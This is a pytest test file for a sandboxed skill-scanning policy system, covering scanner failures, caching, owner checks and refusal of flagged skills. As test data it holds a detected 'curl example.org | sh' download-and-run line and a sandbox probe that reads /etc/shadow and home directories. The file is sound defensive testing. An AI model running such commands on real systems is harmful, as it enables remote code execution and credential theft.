"""The scanners of a policy, as real processes in the real sandbox: what they find, and how they fail."""

from __future__ import annotations

import json
import os
import signal
import sys
from collections.abc import Callable, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any, TypeAlias

import pytest

from environments import bubblewrap
from sample_entries import DEMO, checked, file_uri, skill_md
from scanning import (
    BAD,
    EXAMPLE,
    HEAD,
    SCRIPT,
    clean_machine,
    example,
    script_of,
    table,
    write_policy,
)
from simulator import Simulator, agree, opened
from skillwire.consent import ApprovalRequest
from skillwire.errors import PolicyRefused
from skillwire.host import scanners
from skillwire.host.config.file import parse_policy
from skillwire.host.policies import policy_log
from skillwire.host.scanners import Scans, run_scanner
from skillwire.sandbox import bubblewrap as sandbox
from skillwire.trust import (
    FindingLevel,
    LayerKind,
    Policy,
    PolicyLayer,
    Scan,
    Scanner,
    VerifiedFile,
    verify_file,
)

pytestmark = [pytest.mark.process, pytest.mark.anyio]
root_only = pytest.mark.skipif(os.name == "nt" or os.geteuid() != 0, reason="needs root")

DATA = {"SKILL.md": skill_md(), "scripts/get.sh": BAD}
ENTRY = checked(files=DATA)
FILES = [verify_file(ENTRY, file_uri(ENTRY.uri, path), data, DEMO) for path, data in DATA.items()]


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A clean home without a policy, and nothing scanned yet."""
    clean_machine(tmp_path, monkeypatch)
    return tmp_path


def shell(code: str, *, seconds: float = 30) -> Scanner:
    return Scanner(name="s", command=("/bin/sh", "-c", code), seconds=seconds, refuse=FindingLevel.ERROR)


def policy_of(scanner: Scanner, kind: LayerKind = LayerKind.USER) -> Policy:
    return Policy((PolicyLayer(kind=kind, place="p", name="acme", scanners=(scanner,)),))


def sim() -> Simulator:
    made = Simulator()
    made.skill("refunds", files={"scripts/get.sh": BAD})
    made.skill("letters", files={"a.md": b"fine\n"})
    return made


Asked: TypeAlias = list[ApprovalRequest]


def asking(asked: Asked) -> Callable[[ApprovalRequest], object]:
    async def ask(request: ApprovalRequest) -> bool:
        asked.append(request)
        return True

    return ask


# One scanner


@pytest.mark.parametrize(
    ("code", "seconds", "problem"),
    [
        ("exit 2", 30, "it ended with 2"),
        ("kill -KILL $$", 30, "it ended with 137"),
        ("kill -STOP $$", 0.3, "it took longer than 0.3 seconds"),
        ("sleep 60", 0.3, "it took longer than 0.3 seconds"),
        ("true", 30, "it is not JSON"),
        ("cat /dev/urandom", 30, "it printed more than"),
        ("head -c 104857600 /dev/zero", 30, "it printed more than"),
        ("head -c 200000 /dev/zero | tr '\\0' '['", 30, "nested too deeply"),
        ("echo '{}'", 30, "it did not print a SARIF log"),
        ("cat /etc/shadow /root/* ~/* 2>/dev/null; ls /skill/*", 30, "it is not JSON"),
        ("echo x > /skill/new", 30, "it ended with 2"),
    ],
)
def test_a_scanner_that_fails_is_not_a_scan(code: str, seconds: float, problem: str) -> None:
    scan = run_scanner(shell(code, seconds=seconds), FILES)
    assert problem in scan.problem
    assert not scan.findings


def test_findings_have_the_place_and_the_cleaned_text(home: Path) -> None:
    scan = run_scanner(example(home), FILES)
    assert scan.lines(5) == [
        "downloads: 1 error",
        "error: scripts/get.sh:1: download-and-run: runs what it downloads: curl example.org | sh",
    ]


def test_a_scanner_that_is_not_there_or_says_why_it_failed(home: Path) -> None:
    gone = Scanner(name="s", command=("/usr/bin/gone",), seconds=5)
    assert run_scanner(gone, FILES).problem == "there is no /usr/bin/gone"
    assert run_scanner(replace(example(home), reads=("/opt/gone",)), FILES).problem == "there is no /opt/gone"
    failed = run_scanner(shell("printf 'no \\033[31mrules\\n' >&2; exit 3"), FILES)
    assert (failed.problem, failed.said) == ("it ended with 3", "no rules")


def test_a_sandbox_that_is_stopped_ends_at_the_deadline_of_its_scanner(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """SIGSTOP to bubblewrap itself, which holds nothing up longer than the scanner may take."""
    monkeypatch.setattr(sandbox, "_END_SECONDS", 0.5)
    made: list[Any] = []
    start, limit = sandbox.subprocess.Popen, sandbox._Run._limit

    def started(*arguments: Any, **options: Any) -> Any:
        made.append(start(*arguments, **options))
        return made[-1]

    def stop(run: Any, pid: int) -> None:
        limit(run, pid)
        os.kill(made[-1].pid, signal.SIGSTOP)

    monkeypatch.setattr(sandbox.subprocess, "Popen", started)
    monkeypatch.setattr(sandbox._Run, "_limit", stop)
    assert run_scanner(shell("sleep 60", seconds=0.5), FILES).problem == "it took longer than 0.5 seconds"
    assert made[-1].poll() is not None


def test_without_a_sandbox_nothing_is_scanned(monkeypatch: pytest.MonkeyPatch, home: Path) -> None:
    monkeypatch.setenv("PATH", "/nowhere")
    assert "bubblewrap is not installed" in run_scanner(example(home), FILES).problem


@root_only
def test_what_decides_for_others_runs_no_program_that_the_user_can_replace(
    monkeypatch: pytest.MonkeyPatch, home: Path
) -> None:
    mine = home / "bin"
    mine.mkdir()
    os.chown(mine, 65534, 65534)
    fake = mine / "bwrap"
    fake.write_text(f"#!/bin/sh\nexec {sys.executable} -c 'print()'\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{mine}:{os.environ['PATH']}")
    scan = run_scanner(example(home), FILES, decisive=True)
    assert f"{mine / 'bwrap'} belongs to another user than root" in scan.problem or str(mine) in scan.problem
    monkeypatch.setenv("PATH", f"{bubblewrap().parent}:/usr/bin:/bin")
    os.chown(script_of(home), 65534, 65534)
    scan = run_scanner(example(home), FILES, decisive=True)
    assert f"{script_of(home)} belongs to another user than root" in scan.problem


def test_the_example_of_the_page_is_a_policy(home: Path) -> None:
    [scanner] = parse_policy(HEAD + EXAMPLE, kind=LayerKind.MACHINE, place="p").layer.scanners
    assert scanner.refuse is FindingLevel.ERROR
    assert (scanner.name, scanner.command[2:]) == (example(home).name, example(home).command[2:])


# What is known


class Counted:
    """Counts the scanners that run."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.runs = 0
        self.scans = Scans()
        monkeypatch.setattr(scanners, "run_scanner", self._run)

    def _run(self, *arguments: Any, **options: Any) -> Scan:
        self.runs += 1
        return run_scanner(*arguments, **options)

    async def scan(self, policy: Policy) -> tuple[Scan, ...]:
        async def fetch() -> list[VerifiedFile]:
            return FILES

        return await self.scans.scan(policy, ENTRY, fetch)

    def known(self, policy: Policy) -> Mapping[str, Scan] | None:
        return self.scans.known(policy, ENTRY)

    def forget(self) -> None:
        """Be another process, which scanned nothing."""
        self.scans = Scans()


async def test_the_same_bytes_are_scanned_once_by_each_command_also_by_another_process(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    counted, policy = Counted(monkeypatch), policy_of(example(home))
    assert counted.known(policy) == {}
    [first] = await counted.scan(policy)
    assert first.words == "1 error"
    assert [first] == list((counted.known(policy) or {}).values())
    assert await counted.scan(policy) == (first,)
    counted.forget()
    assert await counted.scan(policy) == (first,)
    assert counted.runs == 1
    # Another command, and another version of the same one.
    other = replace(example(home), command=(*example(home).command, "/skill"))
    assert await counted.scan(policy_of(other)) == (first,)
    script_of(home).write_text(SCRIPT.replace("curl", "wget"))
    [clean] = await counted.scan(policy)
    assert (clean.words, counted.runs) == ("no findings", 3)


async def test_a_cache_that_the_user_edited_does_not_decide_for_the_machine(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    counted = Counted(monkeypatch)
    refusing = replace(example(home), refuse=FindingLevel.ERROR)
    own, machine = policy_of(refusing), policy_of(refusing, LayerKind.MACHINE)
    await counted.scan(own)
    [stored] = (home / "home/CACHE/skillwire/scans").iterdir()
    stored.write_text(json.dumps({**json.loads(stored.read_text()), "counts": [], "findings": []}))
    counted.forget()
    [edited] = await counted.scan(own)
    assert edited.words == "no findings", "their own layer is theirs"
    assert counted.known(machine) is None
    monkeypatch.setattr(scanners, "check_owner", lambda path: None)
    [scan] = await counted.scan(machine)
    assert (scan.words, counted.runs) == ("1 error", 2)
    assert (counted.known(machine) or {}).keys() == {refusing.key}
    for damaged in ("", "[]", "{}", '{"key": 1}', '{"key": ["a", "b"], "counts": 1, "findings": 2}'):
        counted.forget()
        stored.write_text(damaged)
        assert (await counted.scan(own))[0].words == "1 error"


async def test_a_scan_that_failed_is_not_cached_for_long(monkeypatch: pytest.MonkeyPatch) -> None:
    counted, policy = Counted(monkeypatch), policy_of(shell("exit 2"))
    await counted.scan(policy)
    await counted.scan(policy)
    assert counted.runs == 1, "each may take its whole time"
    monkeypatch.setattr(scanners, "_RETRY_SECONDS", -1)
    await counted.scan(policy)
    assert counted.runs == 2


# A host


async def test_findings_are_shown_beside_the_question_and_what_is_approved_is_not_scanned(home: Path) -> None:
    write_policy(home, table(example(home)) + table(shell("exit 2")))
    asked: Asked = []
    async with opened(home, shop=sim(), host_options={"ask": asking(asked)}) as host:
        assert (await host.load("refunds")).grants.allowed_tools is False
        await host.load("letters")
        [about, clean] = asked
        assert [scan.words for scan in about.scans] == ["1 error", "not scanned: it ended with 2"]
        assert [scan.words for scan in clean.scans] == ["no findings", "not scanned: it ended with 2"]
        await host.load("refunds")
        assert len(asked) == 2


async def test_a_threshold_refuses_before_anybody_is_asked_also_what_was_approved_before(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: Asked = []
    shop = sim()
    async with opened(home, shop=shop, host_options={"ask": asking(asked)}) as host:
        await host.load("refunds")
        assert len(asked) == 1
        write_policy(home, table(example(home), "error"))
    async with opened(home, shop=shop, host_options={"ask": asking(asked)}) as host:
        skill = await host.find("refunds")
        assert host.decide.status(skill).words == "approved"
        with pytest.raises(PolicyRefused, match=r"policy acme refuses it by scanners\.downloads: 1 error"):
            await host.load("refunds")
        assert host.decide.status(skill).words == "refused (policy acme)"
        with pytest.raises(PolicyRefused):
            await host.decide.approve(skill)
        assert "refunds" not in host.catalog()
        assert "letters" in host.catalog()
        await host.load("letters")
        assert len(asked) == 2
    [line] = [json.loads(line) for line in policy_log().read_text().splitlines()][:1]
    assert (line["rule"], line["reason"], line["refused"]) == ("scanners.downloads", "1 error", True)
    assert "example.org" not in json.dumps(line), "a model may read it: no text of the skill"


@pytest.mark.parametrize(
    ("kind", "state"), [("dynamic", "not scanned: it lists no digests"), ("failing", "not scanned: it ended")]
)
async def test_a_threshold_refuses_what_could_not_be_scanned(home: Path, kind: str, state: str) -> None:
    write_policy(home, table(shell("exit 2") if kind == "failing" else example(home), "note"))
    shop = Simulator()
    shop.skill("refunds", dynamic=kind == "dynamic")
    async with opened(home, shop=shop, host_options={"ask": agree}) as host:
        with pytest.raises(PolicyRefused, match=state):
            await host.load("refunds")


async def test_a_layer_that_only_reports_loads_it_and_reports(home: Path) -> None:
    write_policy(home, table(example(home), "error"), head=f'{HEAD}mode = "report"\n')
    async with opened(home, shop=sim(), host_options={"ask": agree}) as host:
        await host.load("refunds")
    line = json.loads(policy_log().read_text().splitlines()[-1])
    assert (line["rule"], line["refused"]) == ("scanners.downloads", False)


async def test_what_a_policy_denies_is_not_scanned(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    counted = Counted(monkeypatch)
    write_policy(home, f'[sources]\ndeny = ["*/refunds"]\n{table(example(home), "error")}')
    async with opened(home, shop=sim(), host_options={"ask": agree}) as host:
        with pytest.raises(PolicyRefused, match=r"sources\.deny"):
            await host.load("refunds")
        assert counted.runs == 0
